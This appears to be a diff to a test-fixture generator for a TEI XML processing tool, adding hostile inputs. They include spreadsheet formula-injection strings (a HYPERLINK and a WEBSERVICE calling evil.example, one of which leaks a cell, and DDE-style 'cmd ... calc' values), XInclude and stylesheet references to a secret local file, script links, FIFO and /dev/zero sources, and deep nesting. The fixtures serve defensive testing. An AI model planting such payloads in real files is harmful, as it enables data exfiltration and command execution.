@@ -3,6 +3,8 @@
     python tests/hostile/make_corpus.py --small         # rewrite the committed fixtures (text/, xml/)
     python tests/hostile/make_corpus.py --large DIR     # write the large files into DIR
 
+Special files (FIFOs, /dev/zero: `special_files`) are made by the tests themselves.
+
 The XML fixtures that aim at a local file name it `@SECRET_URL@`; the tests replace that with
 the URL of a file they create, holding a string that must never appear in any output.
 """
@@ -10,6 +12,7 @@ the URL of a file they create, holding a string that must never appear in any ou
 from __future__ import annotations
 
 import argparse
+import os
 from pathlib import Path
 
 HERE = Path(__file__).resolve().parent
@@ -78,6 +81,16 @@ def xml_fixtures() -> dict[str, bytes]:
         "xinclude.xml": _tei("", f'<xi:include href="{SECRET_URL}" parse="text"/>',
                              tei_open=f'{TEI_OPEN[:-1]} xmlns:xi="http://www.w3.org/2001/XInclude">'),
         "xml-stylesheet.xml": _tei(f'<?xml-stylesheet type="text/xsl" href="{SECRET_URL}"?>\n', "A styled document."),
+        "formula-cells.xml": formula_cells(),
+        # libxml2's message for it ends in a newline, which once printed a stray ", line 2, column 223"
+        "nul-byte.xml": _tei("", "x" * 200 + "\x00"),
+        # in a teiCorpus, document `id-clash`'s `b-c` and document `id-clash-b`'s `c` both become
+        # `id-clash-b-c`, and the first's `b` becomes the second's own id `id-clash-b`
+        "id-clash.xml": _tei("", '<seg xml:id="b-c">first b-c</seg> <seg xml:id="b">first b</seg> '
+                                 '<ref target="#b-c">to b-c</ref> <ref target="#b">to b</ref>'),
+        "id-clash-b.xml": _tei("", '<seg xml:id="c">second c</seg> <ref target="#c">to c</ref>'),
+        # under libxml2's own limit (256), past what the PDF's layout engine can recurse through
+        "deep-nesting-245.xml": _tei("", "").replace(b"<p></p>", b"<div>" * 245 + b"<p>deep</p>" + b"</div>" * 245),
     }
 
 
@@ -110,6 +123,27 @@ def link_fixtures() -> dict[str, bytes]:
         "link-vbscript.xml": _linked_tei("VBScript:msgbox(1)"),
         "link-protocol-relative.xml": _linked_tei("//evil.example/alert(1)"),
     }
+
+
+#: Header fields that start like spreadsheet formulas (the catalogue's CSV must show them as text).
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&amp;A1,"Open the letter")',
+            "idno": "@SUM(1+1)*cmd|' /C calc'!A0", "settlement": "+1+cmd|' /C calc'!A0",
+            "repository": "-2+3", "collection": "=1+1;=2+2", "translator": "@translator",
+            "summary": "=WEBSERVICE(\"http://evil.example/\")", "uploaded": "&#9;=1+1", "mainLang": "&#13;=1+1"}
+
+
+def formula_cells() -> bytes:
+    f = FORMULAS
+    header = (f"<teiHeader><fileDesc><titleStmt><title>{f['title']}</title><respStmt><resp>Translated by</resp>"
+              f"<persName>{f['translator']}</persName></respStmt></titleStmt>"
+              f"<publicationStmt><p>x</p><date type=\"uploaded\" when=\"{f['uploaded']}\"/></publicationStmt>"
+              f"<sourceDesc><msDesc><msIdentifier><settlement>{f['settlement']}</settlement>"
+              f"<repository>{f['repository']}</repository><collection>{f['collection']}</collection>"
+              f"<idno>{f['idno']}</idno></msIdentifier><msContents><textLang mainLang=\"{f['mainLang']}\"/>"
+              f"</msContents></msDesc></sourceDesc></fileDesc>"
+              f"<profileDesc><abstract><p>{f['summary']}</p></abstract></profileDesc></teiHeader>")
+    return (f'<?xml version="1.0"?>\n{TEI_OPEN}{header}<text><body><p>Formulas in the header.</p></body></text>'
+            f"</TEI>\n").encode()
 
 
 def write_small() -> None:
@@ -160,6 +194,16 @@ def xml_deep(folder: Path, depth: int = 100_000) -> Path:
     path.write_bytes(f"{TEI_OPEN}{HEADER}<text><body>".encode() + b"<div>" * depth + b"<p>deep</p>"
                      + b"</div>" * depth + b"</body></text></TEI>\n")
     return path
+
+
+def special_files(folder: Path) -> list[Path]:
+    """Sources that are no regular files, made at test time: a FIFO (reading it would wait for a
+    writer for ever) under each source suffix, and a device that never ends."""
+    made = []
+    for name in ("fifo.txt", "fifo.xml"):
+        os.mkfifo(folder / name)
+        made.append(folder / name)
+    return [*made, Path("/dev/zero")]
 
 
 LARGE = {"large-50mb.txt": text_50mb, "lines-100k.txt": text_100k_lines, "large-200mb.xml": xml_200mb,
